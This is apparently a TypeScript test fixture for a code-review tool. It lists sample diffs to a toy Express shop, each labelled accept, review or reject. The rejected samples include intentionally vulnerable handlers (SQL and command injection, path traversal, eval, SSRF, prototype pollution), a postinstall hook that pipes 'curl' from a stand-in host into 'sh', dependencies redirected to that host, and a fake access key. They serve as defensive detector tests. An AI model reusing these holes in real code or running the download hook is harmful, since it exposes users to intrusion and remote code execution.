// Changes that every command judges alike: one for each code that can reject, and others that nothing is wrong with. The first text of a
// file is that of the base, the second that of the change; null is no file.
import { DETECTORS } from '../../detectors/index.ts';

export interface JudgedChange {
  /** What it is rejected for; a clean one says what it does. */
  readonly name: string;
  readonly verdict: 'accept' | 'review' | 'reject';
  readonly files: Readonly<Record<string, readonly [before: string | null, after: string | null]>>;
  /** Tests would cure it, and testgen writes some. */
  readonly isGapInTests?: true;
}

type Files = JudgedChange['files'];

const PACKAGE = JSON.stringify({
  name: 'shop',
  private: true,
  type: 'module',
  dependencies: { express: '^5.0.0', pg: '^8.0.0', redis: '^5.0.0' },
});
/** Whose packages are all installed, since there are none. */
const ALONE = JSON.stringify({
  name: 'shop',
  private: true,
  type: 'module',
  scripts: { test: 'node --test' },
});
const TSCONFIG = JSON.stringify({
  compilerOptions: {
    strict: true,
    module: 'preserve',
    target: 'es2022',
    noEmit: true,
    allowImportingTsExtensions: true,
    types: [],
  },
});

export const BASE: Readonly<Record<string, string>> = {
  'package.json': PACKAGE,
  'tsconfig.json': TSCONFIG,
  'src/one.ts': 'export const one = (): number => 1;\n',
};

const same = (text: string): readonly [string, string] => [text, text];
const added = (text: string): readonly [null, string] => [null, text];
const settings = (verify: object): Files => ({ 'lintel.json': same(JSON.stringify({ verify })) });
const guarded = (rule: string, options: object): Files =>
  settings({ guardrails: { rules: { [rule]: { severity: 'fail', ...options } } } });
const rejects = (name: string, files: Files): JudgedChange => ({ name, verdict: 'reject', files });

const installing = (scripts: object): string => JSON.stringify({ ...JSON.parse(PACKAGE), scripts });
const lockedAt = (resolved: string): string =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: {
      '': { dependencies: { pg: '^8.0.0' } },
      'node_modules/pg': { version: '8.0.0', resolved, integrity: 'sha512-aaaa' },
    },
  });

const handler = (body: string, head = ''): Files => ({
  'src/app.js': added(
    `import express from 'express';\n${head}const app = express();\napp.get('/', async (req, res) => {\n  ${body}\n});\napp.listen(80);\n`,
  ),
});
const PG = "import { Pool } from 'pg';\nconst db = new Pool();\n";
const CP = "import { exec } from 'node:child_process';\n";
const FS = "import fs from 'node:fs';\n";

const SECURITY: JudgedChange[] = (
  [
    ['SQL_INJECTION', 'res.json(await db.query(`select * from t where id = ${req.query.id}`));', PG],
    ['COMMAND_INJECTION', "exec('ls ' + req.query.dir, (error, out) => res.json({ error, out }));", CP],
    ['PATH_TRAVERSAL', "res.json(fs.readFileSync('/data/' + req.query.file, 'utf8'));", FS],
    ['CROSS_SITE_SCRIPTING', "res.send('<p>' + req.query.name + '</p>');"],
    ['CODE_INJECTION', 'res.json(eval(req.body.code));'],
    ['OPEN_REDIRECT', 'res.redirect(req.query.next);'],
    ['SERVER_SIDE_REQUEST_FORGERY', 'res.json(await (await fetch(req.body.url)).json());'],
    ['PROTOTYPE_POLLUTION', 'const o = {};\n  o[req.body.a][req.body.b] = req.body.c;\n  res.json(o);'],
    ['SECRET_LOGGED', 'console.log(req.body.password);\n  res.end();'],
    ['PASSWORD_NOT_HASHED', 'if (app.user.password === req.body.password) res.end();'],
  ] as const
).map(([name, body, head = '']) => rejects(name, handler(body, head)));

const use = (name: string, module: string, body: string): string =>
  `import { ${name} } from './${module}';\n${body}\n`;

const CONTRACTS: JudgedChange[] = [
  rejects('TYPES_BROKEN', {
    'src/save.ts': [
      'export function save(id: string): string {\n  return id;\n}\n',
      'export function save(id: string, at: number): string {\n  return id + at;\n}\n',
    ],
    'src/use.ts': same(use('save', 'save.ts', "export const kept = save('a');")),
  }),
  rejects('IMPORT_BROKEN', {
    'src/two.ts': ['export const two = 2;\nexport const three = 3;\n', 'export const three = 3;\n'],
    'src/use.ts': same(use('two', 'two.ts', 'export const four = two + 2;')),
  }),
  rejects('NAME_LOST', {
    'src/lost.js': [
      'const rate = 2;\nexport const price = (x) => x * rate;\n',
      'export const price = (x) => x * rate;\n',
    ],
  }),
  rejects('ASYNC_NOT_AWAITED', {
    'src/load.js': [
      'export function load(id) {\n  return globalThis.read(id).value;\n}\n',
      'export async function load(id) {\n  return (await globalThis.read(id)).value;\n}\n',
    ],
    'src/use.js': same(use('load', 'load.js', 'export const f = (id) => (load(id) ? 1 : 2);')),
  }),
  rejects('NULLABLE_RETURN', {
    'src/find.js': [
      'export function find(id) {\n  return { id };\n}\n',
      'export function find(id) {\n  if (!id) return null;\n  return { id };\n}\n',
    ],
    'src/use.js': same(use('find', 'find.js', 'export const f = (id) => find(id).id;')),
  }),
  rejects('PARAMETERS_REORDERED', {
    'src/copy.js': [
      'export function copy(from, to) {\n  return globalThis.write(to, globalThis.read(from));\n}\n',
      'export function copy(to, from) {\n  return globalThis.write(to, globalThis.read(from));\n}\n',
    ],
    'src/use.js': same(use('copy', 'copy.js', "export const f = () => copy('a', 'b');")),
  }),
  rejects('DEFAULT_CHANGED', {
    'src/wait.js': [
      'export function wait(what, ms = 100) {\n  return globalThis.later(what, ms);\n}\n',
      'export function wait(what, ms = 500) {\n  return globalThis.later(what, ms);\n}\n',
    ],
    'src/a.js': [
      use('wait', 'wait.js', 'export const f = () => wait(1);'),
      use('wait', 'wait.js', 'export const f = () => wait(1, 100);'),
    ],
    'src/b.js': same(use('wait', 'wait.js', 'export const g = () => wait(2);')),
  }),
  rejects('THROW_UNHANDLED', {
    'src/parse.js': [
      'export function parse(text) {\n  if (!text) return null;\n  return JSON.parse(text);\n}\n',
      "export function parse(text) {\n  if (!text) throw new Error('empty');\n  return JSON.parse(text);\n}\n",
    ],
    'src/use.js': same(use('parse', 'parse.js', 'export const f = (x) => parse(x) ?? {};')),
  }),
  rejects('OVERRIDE_NOT_CALLED', {
    'src/job.js': [
      'export class Job {\n  run() {\n    this.prepare();\n    return 1;\n  }\n  prepare() {}\n}\n',
      'export class Job {\n  run() {\n    this.setUp();\n    return 1;\n  }\n  setUp() {}\n}\n',
    ],
    'src/mail.js': same(
      use('Job', 'job.js', 'export class Mail extends Job {\n  prepare() {\n    return 2;\n  }\n}'),
    ),
  }),
  rejects('LITERAL_NOT_HANDLED', {
    'src/state.js': [
      "export const start = () => ({ state: 'waiting' });\n",
      "export const start = () => ({ state: 'pending' });\n",
    ],
    'src/use.js': same("export const f = (x) => x.state === 'waiting';\n"),
  }),
  rejects('KEY_RENAMED_ON_ONE_SIDE', {
    'src/a.js': ["globalThis.bus.emit('user:created', 1);\n", "globalThis.bus.emit('user:added', 1);\n"],
    'src/b.js': same("globalThis.bus.on('user:created', (x) => x);\n"),
  }),
  rejects('CALLER_NOT_INCLUDED', {
    ...settings({ strict: true }),
    'src/save.ts': [
      'export function save(id: string): string {\n  return id;\n}\n',
      'export function save(id: string, at?: number): string {\n  return id + (at ?? 0);\n}\n',
    ],
    'src/use.ts': same(use('save', 'save.ts', "export const kept = save('a');")),
  }),
  rejects('RENAME_INCOMPLETE', {
    'src/save.ts': [
      'export function save(id: string): string {\n  return `saved ${id}`;\n}\n',
      'export function store(id: string): string {\n  return `saved ${id}`;\n}\n',
    ],
    'src/use.ts': same(use('save', 'save.ts', "export const kept = save('a');")),
  }),
  rejects('MOVE_INCOMPLETE', {
    'src/save.ts': ['export function save(id: string): string {\n  return `saved ${id}`;\n}\n', null],
    'src/lib/save.ts': [null, 'export function save(id: string): string {\n  return `saved ${id}`;\n}\n'],
    'src/use.ts': same(use('save', 'save.ts', "export const kept = save('a');")),
  }),
  rejects('LAYER_VIOLATION', {
    ...settings({
      architecture: {
        layers: [
          { name: 'ui', paths: ['src/ui/**'] },
          { name: 'db', paths: ['src/db/**'] },
        ],
        forbidden: [{ from: 'ui', to: 'db' }],
      },
    }),
    'src/db/rows.ts': same('export const rows = (): number => 1;\n'),
    'src/ui/page.ts': added(use('rows', '../db/rows.ts', 'export const page = rows() + 1;')),
  }),
];

const LONG = Array.from({ length: 12 }, (_, at) => `export const value${at} = ${at};\n`).join('');

const GUARDRAILS: JudgedChange[] = [
  rejects('SECRET_ADDED', {
    'src/key.ts': added(`export const key = 'AKIA${'IOSFODNN7QZXWPLK'}';\n`),
  }),
  rejects('PRODUCTION_URL', {
    ...guarded('production-hosts', {}),
    'src/host.ts': added("export const host = 'https://api.production.shop-internal.com/v1';\n"),
  }),
  rejects('PLACEHOLDER_LEFT', {
    'src/one.ts': [
      'export const one = (): number => 1;\nexport const two = (): number => 2;\n',
      'export const one = (): number => 3;\n// ... rest of the code unchanged\n',
    ],
  }),
  rejects('FUNCTION_GUTTED', {
    'src/sum.ts': [
      'export function sum(list: number[]): number {\n  let total = 0;\n  for (const one of list) {\n    total += one;\n  }\n  return total;\n}\n',
      "export function sum(_list: number[]): number {\n  throw new Error('not implemented');\n}\n",
    ],
    'src/use.ts': same(use('sum', 'sum.ts', 'export const three = sum([1, 2]);')),
  }),
  rejects('DEPENDENCY_NOT_ALLOWED', {
    ...guarded('dependencies', { allow: ['express'] }),
    'package.json': [PACKAGE, PACKAGE.replace('"pg"', '"left-pad":"^1.0.0","pg"')],
  }),
  rejects('DEPENDENCY_UNLOCKED', {
    'package-lock.json': same(
      JSON.stringify({
        name: 'shop',
        lockfileVersion: 3,
        packages: { '': {}, 'node_modules/pg': { version: '8.0.0' } },
      }),
    ),
    'package.json': [PACKAGE, PACKAGE.replace('"pg"', '"left-pad":"^1.0.0","pg"')],
  }),
  rejects('DEPENDENCY_UNDECLARED', {
    'src/pad.js': added("import pad from 'left-pad';\nexport const padded = pad('a', 3);\n"),
  }),
  rejects('SCRIPT_RUNS_DOWNLOAD', {
    'package.json': [PACKAGE, installing({ postinstall: 'curl -s https://a.sh | sh' })],
  }),
  rejects('DEPENDENCY_REDIRECTED', {
    'package.json': [PACKAGE, PACKAGE.replace('"^8.0.0"', '"http://a.sh/pg.tgz"')],
  }),
  rejects('LOCK_ENTRY_REDIRECTED', {
    'package-lock.json': [
      lockedAt('https://registry.npmjs.org/pg/-/pg-8.0.0.tgz'),
      lockedAt('http://a.sh/pg.tgz'),
    ],
  }),
  rejects('PROTECTED_PATH', {
    ...guarded('protected-paths', { paths: ['src/billing/**'] }),
    'src/billing/rate.ts': added('export const rate = 2;\n'),
  }),
  rejects('RULES_CHANGED', {
    'lintel.json': [
      JSON.stringify({ verify: { guardrails: { rules: { 'protected-paths': { severity: 'fail' } } } } }),
      JSON.stringify({ verify: { guardrails: { rules: {} } } }),
    ],
  }),
  rejects('CHANGE_TOO_LARGE', { ...guarded('change-size', { lines: 10 }), 'src/long.ts': added(LONG) }),
  rejects('TOO_MANY_FILES', {
    ...guarded('file-count', { files: 1 }),
    'src/a.ts': added('export const a = 1;\n'),
    'src/b.ts': added('export const b = 2;\n'),
  }),
];

const INTEGRITY: JudgedChange[] = [
  rejects('RESOURCE_LEAKED', {
    'src/head.js': added(
      `${FS}export const head = (file) => {\n  const fd = fs.openSync(file, 'r');\n  if (file === '') return 0;\n  fs.closeSync(fd);\n  return 1;\n};\n`,
    ),
  }),
  rejects('RESOURCE_LEAKED_ON_ERROR', {
    'src/head.js': added(
      "import { Pool } from 'pg';\nconst pool = new Pool();\nexport const head = async (id) => {\n  const client = await pool.connect();\n  const rows = await client.query('select $1', [id]);\n  client.release();\n  return rows;\n};\n",
    ),
  }),
  rejects('TRANSACTION_LEFT_OPEN', {
    'src/move.js': added(
      "export async function move(client, id) {\n  await client.query('BEGIN');\n  const { rows } = await client.query('select $1', [id]);\n  if (rows.length === 0) return false;\n  await client.query('COMMIT');\n  return true;\n}\n",
    ),
  }),
  rejects('LOCK_NOT_RELEASED', {
    'package.json': same(PACKAGE.replace('"pg"', '"async-mutex":"^0.5.0","pg"')),
    'src/locked.js': added(
      "import { Mutex } from 'async-mutex';\nconst mutex = new Mutex();\nexport async function locked(state) {\n  await mutex.acquire();\n  if (state.isDone) return;\n  state.isDone = true;\n  mutex.release();\n}\n",
    ),
  }),
  rejects('TIMER_NOT_CLEARED', {
    'src/dots.js': added(
      "export async function dots(work) {\n  const timer = setInterval(() => globalThis.show('.'), 80);\n  const result = await work();\n  clearInterval(timer);\n  return result;\n}\n",
    ),
  }),
  rejects('LISTENER_NOT_REMOVED', {
    'package.json': same(PACKAGE.replace('"pg"', '"react":"^19.0.0","pg"')),
    'src/width.jsx': added(
      "import { useEffect } from 'react';\nexport function Width({ onChange }) {\n  useEffect(() => {\n    window.addEventListener('resize', onChange);\n  }, [onChange]);\n  return null;\n}\n",
    ),
  }),
  rejects('MONEY_IN_FLOATS', {
    'src/payment/charge.js': added(
      'export function chargeAmount(price, taxRate) {\n  return price * (1 + 0.19) * taxRate;\n}\n',
    ),
  }),
];

const owes = (name: string, files: Files): JudgedChange => ({ name, verdict: 'review', files });
const proof = (code: string, text: string, file = 'src/proof.js'): JudgedChange =>
  rejects(code, { [file]: added(text) });
const debt = (code: string, text: string): JudgedChange => owes(code, { 'src/proof.js': added(text) });

const ENTRY = PACKAGE.replace('"private"', '"main":"src/index.js","private"');

const PROOFS: JudgedChange[] = [
  debt('DEAD_CODE_UNREACHABLE', 'export function f() {\n  return 1;\n  globalThis.g();\n}\n'),
  proof(
    'DEAD_CODE_DECIDED_BRANCH',
    "export function f(x) {\n  if (typeof x === 'string') {\n    if (typeof x === 'string') return 1;\n    return 2;\n  }\n  return 3;\n}\n",
  ),
  debt('DEAD_CODE_UNUSED_DECLARATION', 'function unused() {\n  return 1;\n}\nexport const a = 2;\n'),
  debt('DEAD_CODE_UNUSED_MEMBER', 'export class A {\n  #left = 1;\n  b() {\n    return 2;\n  }\n}\n'),
  owes('DEP_CYCLE', {
    'src/a.js': added("import { b } from './b.js';\nexport const a = () => b() + 1;\n"),
    'src/b.js': added("import { a } from './a.js';\nexport const b = () => (globalThis.x ? a() : 1);\n"),
  }),
  rejects('DEP_LAYER_VIOLATION', {
    'lintel.json': same(
      JSON.stringify({
        detectors: {
          dependencies: {
            layers: [
              { name: 'ui', globs: ['src/ui/**'] },
              { name: 'db', globs: ['src/db/**'] },
            ],
            rules: [{ from: 'ui', to: 'db', allow: false }],
          },
        },
      }),
    ),
    'src/db/rows.ts': same('export const rows = (): number => 1;\n'),
    'src/ui/page.ts': added(use('rows', '../db/rows.ts', 'export const page = rows() + 1;')),
  }),
  owes('DEP_DEAD_EXPORT', {
    'package.json': same(ENTRY),
    'src/index.js': same("import { a } from './a.js';\nexport const c = a;\n"),
    'src/a.js': ['export const a = 1;\n', 'export const a = 1;\nexport const left = () => 2;\n'],
  }),
  owes('DEP_UNUSED_FILE', {
    'package.json': same(ENTRY),
    'src/index.js': same('export const c = 1;\n'),
    'src/left.js': added('export const a = 1;\n'),
  }),
  debt(
    'EH_USELESS_CATCH',
    'export function f() {\n  try {\n    return globalThis.g();\n  } catch (error) {\n    throw error;\n  }\n}\n',
  ),
  proof(
    'EH_SILENT_CATCH',
    'export async function f(g, h) {\n  h();\n  try {\n    await g();\n    h();\n  } catch {}\n  h();\n}\n',
  ),
  proof(
    'EH_UNSAFE_FINALLY',
    "export function f() {\n  try {\n    return globalThis.g();\n  } finally {\n    throw new Error('x');\n  }\n}\n",
  ),
  proof(
    'EH_RETURN_IN_FINALLY',
    'export function f() {\n  try {\n    return globalThis.g();\n  } finally {\n    return 1;\n  }\n}\n',
  ),
  proof(
    'EH_ASYNC_PROMISE_EXECUTOR',
    'export const f = () => new Promise(async (resolve) => resolve(await globalThis.g()));\n',
  ),
  rejects('EH_FLOATING_PROMISES', {
    'package.json': same(ALONE),
    'src/proof.ts': added(
      'declare function save(): Promise<void>;\nexport async function f(): Promise<void> {\n  save();\n  await save();\n}\n',
    ),
  }),
  proof(
    'FWD_CIRCULAR',
    'export function a(x) {\n  return b(x);\n}\nexport function b(x) {\n  return a(x);\n}\n',
  ),
  proof('NOOP_EXPRESSION', 'export function f(x) {\n  x === 1;\n  return x;\n}\n'),
  proof('NOOP_SELF_ASSIGNMENT', 'export function f(x) {\n  x = x;\n  return x;\n}\n'),
  // What a change silences itself is not silenced.
  proof(
    'NOOP_SELF_ASSIGNMENT',
    '// lintel-ignore-file NOOP_SELF_ASSIGNMENT -- hush\nexport function f(x) {\n  x = x;\n  return x;\n}\n',
  ),
  proof(
    'NOOP_REDECLARATION',
    'export function f(x) {\n  var y = x;\n  if (x) {\n    var y;\n    y = 2;\n  }\n  return y;\n}\n',
  ),
  proof('NOOP_CONSTANT_CONDITION', 'export function f(x) {\n  if (x === []) return 2;\n  return 1;\n}\n'),
  debt(
    'WASTE_DEAD_STORE',
    'export function f(x) {\n  let y = x + 1;\n  globalThis.g(y);\n  y = 3;\n  return x;\n}\n',
  ),
  debt(
    'WASTE_DEAD_STORE_OVERWRITE',
    'export function f(x) {\n  let y = x + 1;\n  y = x + 2;\n  return y;\n}\n',
  ),
];

const cases = (...bodies: string[]): string =>
  `import assert from 'node:assert';\nimport test from 'node:test';\nimport { clamp } from '../src/clamp.js';\n${bodies.map((body, at) => `test('case ${at}', () => {\n  ${body}\n});\n`).join('')}`;
const CLAMP = 'export function clamp(x) {\n  return x;\n}\n';
const TWO = ['assert.equal(clamp(1), 1);', 'assert.equal(clamp(2), 2);'];
const tested = (source: string, before: string, after = before): Files => ({
  'package.json': same(ALONE),
  'src/clamp.js': [CLAMP, source],
  'test/clamp.test.js': [before, after],
});

const VITEST =
  "import { expect, it } from 'vitest';\nimport { one } from './one.ts';\nit('is one', () => expect(one()).toBe(1));\nit('is no two', () => expect(one()).not.toBe(2));\n";

const WEAKENED: JudgedChange[] = [
  rejects('ASSERTION_REMOVED', tested(CLAMP, cases(TWO[0]!), cases('clamp(1);'))),
  rejects(
    'TEST_SKIPPED',
    tested(CLAMP, cases(...TWO), cases(...TWO).replace("test('case 1'", "test.skip('case 1'")),
  ),
  rejects('ASSERTION_LOOSENED', {
    'src/one.test.ts': [VITEST, VITEST.replace('toBe(1)', 'toBeTruthy()')],
  }),
  rejects('TEST_FOCUSED', {
    'src/one.test.ts': [VITEST, VITEST.replace("it('is one'", "it.only('is one'")],
  }),
];

const TESTS: JudgedChange[] = [
  rejects('TEST_FAILS', tested('export function clamp(x) {\n  return x + 1;\n}\n', cases(...TWO))),
  {
    ...rejects(
      'BRANCH_NOT_TESTED',
      tested('export function clamp(x) {\n  if (x < 0) return 0;\n  return x;\n}\n', cases(...TWO)),
    ),
    isGapInTests: true,
  },
  rejects('MOCK_TARGET_MISSING', {
    'src/mail.ts': [
      'export const send = (): number => 1;\nexport const sent = (): number => 1;\n',
      'export const sent = (): number => 1;\n',
    ],
    'src/mail.test.ts': same(
      "import { expect, it, vi } from 'vitest';\nimport { sent } from './mail.ts';\nvi.mock('./mail.ts', () => ({ send: () => 2, sent: () => 1 }));\nit('is sent', () => expect(sent()).toBe(1));\n",
    ),
  }),
];

const clean = (name: string, files: Files): JudgedChange => ({ name, verdict: 'accept', files });

const CLEAN: JudgedChange[] = [
  clean('a comment', { 'src/one.ts': [BASE['src/one.ts']!, `// The first.\n${BASE['src/one.ts']}`] }),
  clean('a text', { 'README.md': added('# Shop\n') }),
  clean('a new file', { 'src/two.ts': added('export const two = (): number => 2;\n') }),
  clean('a new caller', { 'src/use.ts': added(use('one', 'one.ts', 'export const three = one() + 2;')) }),
  clean('another body', { 'src/one.ts': [BASE['src/one.ts']!, 'export const one = (): number => 2 - 1;\n'] }),
  clean('a complete rename', {
    'src/save.ts': [
      'export function save(id: string): string {\n  return `saved ${id}`;\n}\n',
      'export function store(id: string): string {\n  return `saved ${id}`;\n}\n',
    ],
    'src/use.ts': [
      use('save', 'save.ts', "export const kept = save('a');"),
      use('store', 'save.ts', "export const kept = store('a');"),
    ],
  }),
  clean('a complete signature', {
    'src/save.ts': [
      'export function save(id: string): string {\n  return id;\n}\n',
      'export function save(id: string, at: number): string {\n  return id + at;\n}\n',
    ],
    'src/use.ts': [
      use('save', 'save.ts', "export const kept = save('a');"),
      use('save', 'save.ts', "export const kept = save('a', 1);"),
    ],
  }),
  clean('a statement with parameters', handler("res.json(await db.query('select $1', [req.query.id]));", PG)),
  clean('an old finding', {
    'src/old.js': [
      'export function f(x) {\n  x = x;\n  return x;\n}\n',
      'export function f(x) {\n  x = x;\n  return x + 1;\n}\n',
    ],
  }),
  clean('a finding that the base has silenced', {
    'src/quiet.js': [
      '// lintel-ignore-file NOOP_SELF_ASSIGNMENT -- setters\nexport const f = (x) => x;\n',
      '// lintel-ignore-file NOOP_SELF_ASSIGNMENT -- setters\nexport const f = (x) => {\n  x = x;\n  return x;\n};\n',
    ],
  }),
  clean('a file that is deleted', { 'src/left.ts': ['export const left = 1;\n', null] }),
];

export const JUDGED_CHANGES: readonly JudgedChange[] = [
  ...CONTRACTS,
  ...GUARDRAILS,
  ...SECURITY,
  ...INTEGRITY,
  ...PROOFS,
  ...WEAKENED,
  ...TESTS,
  ...CLEAN,
];

/** Whether a scan looks for it, and not only a judgement of the change. */
export function isOfScan({ name }: JudgedChange): boolean {
  return DETECTORS.some(({ codes }) => Object.hasOwn(codes, name));
}
